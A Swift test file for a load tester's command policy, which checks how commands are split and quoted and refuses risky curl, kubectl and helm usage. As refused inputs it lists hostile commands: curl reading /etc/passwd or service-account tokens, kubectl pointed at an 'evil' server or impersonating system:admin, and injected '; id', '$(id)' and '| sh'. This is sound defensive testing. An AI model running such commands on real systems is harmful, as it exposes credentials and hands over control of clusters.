import Testing

@testable import LoadTester

@Suite("The canonical line of an argument vector")
struct CanonicalLineTests {
    @Test(
        "plain arguments stay bare and the rest are single-quoted",
        arguments: [
            (["kubectl", "get", "pods", "-n", "prod"], "kubectl get pods -n prod"),
            (["curl", "-H", "X-A: b", "http://x/"], "curl -H 'X-A: b' http://x/"),
            (["echo", ""], "echo ''"),
            (["echo", "it's"], "echo 'it'\\''s'"),
            (["echo", "a\u{00A0}b"], "echo 'a\u{00A0}b'"),
            (["echo", "#x", "~y", "$HOME", "a|b"], "echo '#x' '~y' '$HOME' 'a|b'"),
            (["curl", "-d", "@/etc/passwd", "http://x/?a=1"], "curl -d @/etc/passwd 'http://x/?a=1'"),
        ]
    )
    func renders(argv: [String], line: String) {
        #expect(ArgumentSplitter.render(argv) == line)
    }

    @Test(
        "the splitter reads the canonical line back to the same arguments",
        arguments: [
            ["kubectl", "get", "pods", "--kubeconfig=/tmp/k"], ["echo", "it's", "'", "''", "\\", "\"", ""],
            ["echo", "a b", "\tc", "é", "x\u{301}", "'\u{301}", "$(id)", "`id`", "a;b", "#"],
            ["curl", "-sd", "test", "http://podinfo-canary.prod:9898/token"],
        ]
    )
    func roundTrips(argv: [String]) throws {
        #expect(try ArgumentSplitter.split(ArgumentSplitter.render(argv)) == argv)
    }

    @Test("words are split on ASCII blanks only, scalar by scalar, so a combining mark cannot join two words")
    func scalars() throws {
        #expect(
            try ArgumentSplitter.split("get pods x \u{301}--kubeconfig=y") == [
                "get", "pods", "x", "\u{301}--kubeconfig=y",
            ]
        )
        #expect(try ArgumentSplitter.split("a\u{00A0}b") == ["a\u{00A0}b"])
    }

    @Test("shell syntax in a kubectl task is refused naming the task type")
    func subject() {
        #expect(throws: ArgumentSplitter.SplitError.self) {
            try ArgumentSplitter.split("get pods; id", subject: "kubectl tasks")
        }
        do {
            _ = try ArgumentSplitter.split("get pods; id", subject: "kubectl tasks")
        } catch {
            #expect(
                error.message == "\";\" at character 9 is shell syntax, and kubectl tasks run without a shell; quote it"
            )
        }
    }
}

@Suite("Characters refused in a command")
struct CommandCharacterTests {
    @Test(
        "non-ASCII spaces, controls and invisible characters are refused naming the character and its position",
        arguments: [
            ("\u{00A0}", "U+00A0 (NO-BREAK SPACE)"), ("\u{1680}", "U+1680 (OGHAM SPACE MARK)"),
            ("\u{2000}", "U+2000 (EN QUAD)"), ("\u{2003}", "U+2003 (EM SPACE)"), ("\u{2009}", "U+2009 (THIN SPACE)"),
            ("\u{200A}", "U+200A (HAIR SPACE)"), ("\u{2028}", "U+2028 (LINE SEPARATOR)"),
            ("\u{2029}", "U+2029 (PARAGRAPH SEPARATOR)"), ("\u{202F}", "U+202F (NARROW NO-BREAK SPACE)"),
            ("\u{205F}", "U+205F (MEDIUM MATHEMATICAL SPACE)"), ("\u{3000}", "U+3000 (IDEOGRAPHIC SPACE)"),
            ("\u{0085}", "U+0085 (NEXT LINE)"), ("\u{000B}", "U+000B (LINE TABULATION)"),
            ("\u{000C}", "U+000C (FORM FEED)"), ("\n", "U+000A (LINE FEED)"), ("\r", "U+000D (CARRIAGE RETURN)"),
            ("\u{0000}", "U+0000 (NULL)"), ("\u{001B}", "U+001B (ESCAPE)"), ("\u{007F}", "U+007F (DELETE)"),
            ("\u{200B}", "U+200B (ZERO WIDTH SPACE)"), ("\u{202E}", "U+202E (RIGHT-TO-LEFT OVERRIDE)"),
            ("\u{FEFF}", "U+FEFF (ZERO WIDTH NO-BREAK SPACE)"), ("\u{180E}", "U+180E (MONGOLIAN VOWEL SEPARATOR)"),
        ]
    )
    func refused(character: String, name: String) throws {
        let refusal = try #require(throws: Refusal.self) {
            try CommandCharacters.checked("get pods x\(character)--kubeconfig=/tmp/k")
        }
        #expect(refusal.status == 400)
        #expect(refusal.message.hasPrefix("cmd: character 11 is \(name), which is not allowed in a command"))
    }

    @Test("ASCII blanks at the ends are trimmed, and tabs, accents and symbols are kept")
    func allowed() throws {
        #expect(try CommandCharacters.checked("\n  curl -d 'héllo 🚀'\thttp://x/ \n") == "curl -d 'héllo 🚀'\thttp://x/")
        #expect(try CommandCharacters.checked(" \n ") == "")
    }

    @Test("the position counts from the start of cmd as given, leading blanks included")
    func position() throws {
        let refusal = try #require(throws: Refusal.self) { try CommandCharacters.checked("  a\u{3000}b") }
        #expect(refusal.message.hasPrefix("cmd: character 4 is U+3000"))
    }
}

@Suite("The built-in program policies")
struct ProgramPolicyTests {
    func refusal(_ program: BuiltinProgram, _ line: String) throws -> String? {
        program.refusal(of: try ArgumentSplitter.split(line))
    }

    @Test(
        "curl: HTTP checks are admitted, in clusters as curl reads them",
        arguments: [
            "-s http://x/", "-sd test http://podinfo-canary.prod:9898/token", "-sdo http://x/",
            "-s -o /dev/null -w %{http_code} http://x/", "-sS -f -m 5 --retry 3 -H 'X-A: b' https://x/",
            "-X POST --data-raw @literal http://x/", "--data-urlencode name=@x http://x/", "-b session=abc http://x/",
            "-D - http://x/", "-F name=value http://x/", "--url https://x/", "-- http://x/", "--version",
            "-so/dev/null http://x/", "-L --max-redirs 3 --compressed http://x/",
        ]
    )
    func curlAllowed(line: String) throws {
        #expect(try refusal(.curl, line) == nil)
    }

    @Test(
        "curl: reading or writing local files, proxies, sockets and other protocols are refused, with the reason",
        arguments: [
            ("-d @/var/run/secrets/kubernetes.io/serviceaccount/token http://x/", "makes curl read a file"),
            ("-sd@/etc/passwd http://x/", "-d @/etc/passwd: a value starting with @"),
            ("--data @x http://x/", "read a file"), ("--data-binary @x http://x/", "read a file"),
            ("--data-ascii @x http://x/", "read a file"), ("--json @x http://x/", "read a file"),
            ("-H @headers http://x/", "read a file"), ("--data-urlencode @x http://x/", "read a file"),
            ("--data-urlencode n@x http://x/", "read a file"), ("-F f=@x http://x/", "read a file"),
            ("-F 'f=<x' http://x/", "read a file"), ("-F 'f=v;headers=@x' http://x/", "read a file"),
            ("-w @format http://x/", "read a file"), ("-w '%output{/tmp/x}' http://x/", "write a file"),
            ("-b cookies.txt http://x/", "a file curl reads"),
            ("-o /tmp/kubeconfig http://x/", "-o /tmp/kubeconfig: it writes a file"),
            ("-so /root/.kube/config http://x/", "it writes a file"), ("-sofile http://x/", "-o file: it writes"),
            ("-os http://x/", "-o s: it writes a file"), ("--output /tmp/x http://x/", "it writes a file"),
            ("-O http://x/", "-O: it writes a file"), ("--remote-name http://x/", "it writes a file"),
            ("-D /tmp/h http://x/", "it writes a file"), ("-c /tmp/jar http://x/", "it writes a file"),
            ("--trace /tmp/t http://x/", "it writes a file"), ("--trace-ascii /tmp/t http://x/", "it writes a file"),
            ("--stderr /tmp/e http://x/", "it writes a file"), ("--libcurl /tmp/c http://x/", "it writes a file"),
            ("--output-dir /tmp http://x/", "it writes files"), ("-K /tmp/curlrc http://x/", "options from a file"),
            ("--config x http://x/", "options from a file"), ("-T /etc/passwd http://x/", "uploads a local file"),
            ("--upload-file x http://x/", "uploads"), ("--unix-socket /var/run/docker.sock http://x/", "socket"),
            ("--netrc http://x/", "credentials"), ("--netrc-file x http://x/", "credentials"),
            ("-n http://x/", "credentials"), ("-x http://p:3128 http://x/", "proxy"),
            ("--proxy http://p http://x/", "proxy"), ("--noproxy '*' http://x/", "proxy"),
            ("-E cert.pem http://x/", "local file"), ("--cacert ca.pem http://x/", "local file"),
            ("file:///etc/passwd", "not an http:// or https:// URL"), ("ftp://x/", "not an http"),
            ("gopher://x/", "not an http"), ("x.example.com/", "not an http"), ("'{file,http}://x/'", "not an http"),
            ("--url file:///x", "only http:// and https://"), ("--data=@x http://x/", "does not read --data=VALUE"),
            ("--outp /tmp/x http://x/", "--outp: not among the options the policy allows"),
            ("-: http://x/", "second, unchecked set"),
            ("-d", "-d needs a value"), ("--proto =all http://x/", "other protocols"),
        ]
    )
    func curlRefused(line: String, reason: String) throws {
        let refusal = try #require(try refusal(.curl, line))
        #expect(refusal.contains(reason), "\(refusal)")
    }

    @Test(
        "kubectl: read and rollout subcommands are admitted, with flags in any of Cobra's spellings",
        arguments: [
            "get pods", "get pods -n prod", "-n prod get pods", "--namespace=prod get pods", "-nprod get pods",
            "get pods -ojsonpath={.items}", "get pods -o yaml", "rollout status deployment/podinfo -n prod",
            "logs deploy/podinfo -c podinfod --tail 10", "wait --for=condition=Available deployment/podinfo",
            "version --client", "get --raw /healthz", "auth can-i get pods", "delete pod x -n prod",
            "-v 5 get pods", "get pods -l app=podinfo", "get pods -A",
        ]
    )
    func kubectlAllowed(line: String) throws {
        #expect(try refusal(.kubectl, line) == nil)
    }

    @Test(
        "kubectl: kubeconfig, server and identity flags, local files, plugins and interactive subcommands are refused",
        arguments: [
            ("--kubeconfig=/tmp/k get ns", "--kubeconfig: it reads another kubeconfig"),
            ("get ns --kubeconfig /tmp/k", "exec credential"),
            ("get ns --kubeconfig=/tmp/k", "--kubeconfig"), ("get ns -s https://evil", "-s (--server): it changes"),
            ("get ns -shttps://evil", "-s (--server)"), ("get ns -As https://evil", "-s (--server)"),
            ("get ns --server=https://evil", "--server"), ("get ns --token=abc", "--token"),
            ("get ns --as=system:admin", "--as: it changes"), ("get ns --as-group=system:masters", "--as-group"),
            ("get ns --as-uid=0", "--as-uid"), ("get ns --user=admin", "--user"),
            ("get ns --context=other", "--context"),
            ("get ns --cluster=other", "--cluster"), ("get ns --certificate-authority=/x", "--certificate-authority"),
            ("get ns --client-key=/x", "--client-key"), ("get ns --client-certificate=/x", "--client-certificate"),
            ("get ns --insecure-skip-tls-verify", "--insecure-skip-tls-verify"),
            ("get ns --cache-dir=/tmp/c", "another directory"),
            ("apply -f https://evil/x.yaml", "kubectl apply: it reads manifests"),
            ("get -f https://evil/x.yaml", "-f (--filename)"), ("get -f /etc/x", "-f (--filename)"),
            ("get -Rf /x", "-f (--filename)"), ("get -k dir", "-k (--kustomize)"), ("get --filename=/x", "--filename"),
            ("get pods -o go-template-file=/x", "template from a local file"),
            ("get pods --output=jsonpath-file=/x", "template from a local file"),
            ("get pods -ojsonpath-file=/x", "template from a local file"),
            ("config set-credentials x --exec-command=/bin/sh", "kubectl config: it changes the kubeconfig"),
            ("config view --raw", "credential plugin"), ("plugin list", "kubectl plugin: it lists"),
            ("cp pod:/x /tmp/x", "kubectl cp: it copies"), ("exec pod -- id", "kubectl exec: it runs commands"),
            ("proxy", "kubectl proxy: it opens"), ("port-forward pod 8080", "kubectl port-forward: it opens"),
            ("attach pod", "kubectl attach: it attaches"), ("debug pod", "kubectl debug: it starts"),
            ("run x --image=evil", "kubectl run: it starts a pod"),
            ("edit deploy/x", "kubectl edit: it starts an editor"),
            ("evil", "would run a plugin kubectl-evil from PATH"),
            ("create secret generic x --from-file=/x", "kubectl create: it reads local files"),
            ("--profile=cpu --profile-output=/tmp/p get ns", "--profile: it writes a file"),
            ("get ns --profile-output=/tmp/p", "--profile-output"), ("get ns --log-file=/tmp/x", "--log-file"),
            ("--context=x get pods", "--context"), ("-o yaml get pods", "-o before the subcommand"),
            ("", "no subcommand"), ("--kuberc=/tmp/x get ns", "--kuberc"),
            ("patch deploy x --patch-file=/x", "local file"),
            ("cluster-info dump --output-directory=/tmp/d", "--output-directory"), ("-- get pods", "-- before"),
        ]
    )
    func kubectlRefused(line: String, reason: String) throws {
        let refusal = try #require(try refusal(.kubectl, line))
        #expect(refusal.contains(reason), "\(refusal)")
    }

    @Test(
        "helm: test, status, history and list are admitted",
        arguments: [
            "test podinfo", "test podinfo -n prod --logs", "-n prod test podinfo", "status podinfo -o json",
            "history podinfo --max 5", "list -A", "--debug test podinfo",
        ]
    )
    func helmAllowed(line: String) throws {
        #expect(try refusal(.helm, line) == nil)
    }

    @Test(
        "helm: other subcommands, plugins and flags that change the cluster or identity are refused",
        arguments: [
            ("install evil ./chart", "helm install: it installs"), ("upgrade x y", "helm upgrade: it installs"),
            ("test podinfo --kubeconfig=/tmp/k", "--kubeconfig"), ("test podinfo --kube-token=x", "--kube-token"),
            ("test podinfo --kube-as-user=admin", "--kube-as-user"),
            ("test podinfo --kube-apiserver=https://e", "apiserver"),
            ("test podinfo --kube-context=x", "--kube-context"),
            ("test podinfo --registry-config=/x", "configuration file"),
            ("plugin install https://evil", "helm plugin: it installs and runs plugins"),
            ("evil", "would run a plugin helm-evil"),
            ("get values x", "may hold secrets"), ("--kube-context x test y", "--kube-context"),
        ]
    )
    func helmRefused(line: String, reason: String) throws {
        let refusal = try #require(try refusal(.helm, line))
        #expect(refusal.contains(reason), "\(refusal)")
    }

    @Test(
        "grpc_health_probe: a health check is admitted; certificate files and arguments are refused",
        arguments: [
            ("-addr=localhost:9898", nil), ("-addr localhost:9898 -service x -rpc-timeout=5s", nil),
            ("--addr=x:1 -tls -tls-no-verify", nil), ("-addr=x:1 -tls-ca-cert=/x", "reads a local file"),
            ("-tls-client-key /var/run/secrets/token -addr x", "reads a local file"),
            ("-addr x:1 extra", "takes flags only"), ("-unknown", "not among the flags"), ("-addr", "needs a value"),
        ] as [(String, String?)]
    )
    func grpcHealthProbe(line: String, reason: String?) throws {
        let refusal = try refusal(.grpcHealthProbe, line)
        if let reason {
            #expect(refusal?.contains(reason) == true, "\(refusal ?? "admitted")")
        } else {
            #expect(refusal == nil)
        }
    }

    @Test("every option table is consistent: each short name maps to a long option the policy knows")
    func tables() {
        for (letter, name) in CurlPolicy.short {
            #expect(CurlPolicy.long[name] != nil, "-\(letter) → --\(name)")
        }
        for (letter, name) in CurlPolicy.refusedShort {
            #expect(CurlPolicy.short[letter] == nil && CurlPolicy.long[name] == nil, "-\(letter)")
        }
        for policy in [SubcommandPolicy.kubectl, .helm] {
            #expect(policy.allowed.isSubset(of: policy.builtins), "\(policy.program)")
        }
    }
}

@Suite("The tutorial's bash pattern")
struct TutorialBashPatternTests {
    static let pattern = LoadTesterConfiguration.tutorialBashPattern

    @Test(
        "the tutorial's acceptance test and lines of its shape pass",
        arguments: [
            "curl -sd 'test' http://podinfo-canary.prod:9898/token | grep token",
            "curl -sd 'test' http://podinfo-canary:9898/token | grep token",
            "curl -sd '{\"a\":1}' http://podinfo-canary.prod.svc.cluster.local/ | grep ok",
            "curl -sd '' http://podinfo-canary.prod.svc/api/echo | grep token",
        ]
    )
    func passes(line: String) throws {
        #expect(try AllowList([Self.pattern]).permits(line))
    }

    @Test(
        "near misses are refused",
        arguments: [
            "curl -sd 'test' http://podinfo-canary.prod:9898/token | grep token; id",
            "curl -sd \"$(id)\" http://podinfo-canary.prod:9898/token | grep token",
            "curl -sd 'test' http://podinfo-canary.prod:9898/$(id) | grep token",
            "curl -sd 'test' http://podinfo-canary.prod:9898/token | grep $(id)",
            "curl -sd 'test' http://podinfo-canary.prod:9898/`id` | grep token",
            "curl -sd 'test' http://podinfo-canary.prod:9898/token | grep token > /tmp/x",
            "curl -sd 'test' http://podinfo-canary.prod:9898/token | grep token | sh",
            "curl -sd 'test' http://podinfo-canary.prod:9898/token | grep token|sh",
            "curl -sd '@/var/run/secrets/kubernetes.io/serviceaccount/token' http://podinfo-canary.prod:9898/ | grep x",
            "curl -sd 'test' http://podinfo-canary.prod:9898/token | grep -f /etc/passwd",
            "curl -sd 'test' http://podinfo-canary.prod:9898/token & id | grep token",
            "curl -sd 'test' -o /tmp/x http://podinfo-canary.prod:9898/token | grep token",
            "curl -sd 'a' 'b' http://podinfo-canary.prod:9898/token | grep token",
            "curl -sd 'test' http://podinfo-canary.prod:9898/token?x=1 | grep token",
            "curl -sd 'test' file:///etc/passwd | grep root",
            "id; curl -sd 'test' http://podinfo-canary.prod:9898/token | grep token",
            "curl -sd 'test' http://podinfo-canary.prod:9898/token | grep token\nid",
        ]
    )
    func refused(line: String) throws {
        #expect(try !AllowList([Self.pattern]).permits(line))
    }
}

@Suite("The worked examples of docs/loadtester.md")
struct DocumentedPatternTests {
    func admits(_ patterns: [String], typed cmd: String) throws -> Bool {
        let policy = try CommandPolicy(programs: [], allow: patterns, allowBash: [])
        let argv = try ArgumentSplitter.split(cmd)
        return policy.refusal(argv: argv, commandLine: ArgumentSplitter.render(argv)) == nil
    }

    @Test("1: a Kubernetes name as the last argument, and the [^ ]+ pitfall")
    func kubernetesName() throws {
        let good = ["^kubectl get pods -n [a-z0-9]([-a-z0-9]*[a-z0-9])? [a-z0-9][-a-z0-9.]*$"]
        #expect(try admits(good, typed: "kubectl get pods -n prod podinfo-7d9f"))
        #expect(try !admits(good, typed: "kubectl get pods -n prod --kubeconfig=/tmp/k"))
        let loose = ["^kubectl get pods -n prod [^ ]+$"]
        #expect(try admits(loose, typed: "kubectl get pods -n prod --kubeconfig=/tmp/k"))
    }

    @Test("2: a header with a space is single-quoted in the canonical line, however it was typed")
    func quotedHeader() throws {
        let pattern = [#"^curl -s -H 'X-Canary: insider' http://podinfo-canary\.prod:9898/$"#]
        #expect(try admits(pattern, typed: #"curl -s -H "X-Canary: insider" http://podinfo-canary.prod:9898/"#))
        #expect(try admits(pattern, typed: #"curl  -s  -H X-Canary:\ insider   http://podinfo-canary.prod:9898/"#))
        #expect(
            try !admits(pattern, typed: #"curl -s -H "X-Canary: insider" -o /tmp/x http://podinfo-canary.prod:9898/"#)
        )
    }

    @Test("3: an in-house tool")
    func inHouseTool() throws {
        let pattern = [
            #"^/opt/checks/smoke --url http://[a-z0-9]([-a-z0-9]*[a-z0-9])?\.[a-z0-9]([-a-z0-9]*[a-z0-9])?(:[0-9]{1,5})?/ --expect [0-9]{3}$"#
        ]
        #expect(try admits(pattern, typed: "/opt/checks/smoke --url http://podinfo-canary.prod:9898/ --expect 200"))
        #expect(try !admits(pattern, typed: "/opt/checks/smoke --url http://podinfo-canary.prod:9898/ --expect 200 -v"))
    }

    @Test("4: a bash JSON check")
    func bashCheck() throws {
        let allow = try AllowList([#"^curl -s http://podinfo-canary\.prod:9898/version \| grep -q 3\.1\.[0-9]+$"#])
        #expect(allow.permits("curl -s http://podinfo-canary.prod:9898/version | grep -q 3.1.1"))
        #expect(!allow.permits("curl -s http://podinfo-canary.prod:9898/version | grep -q 3.1.1; id"))
    }
}
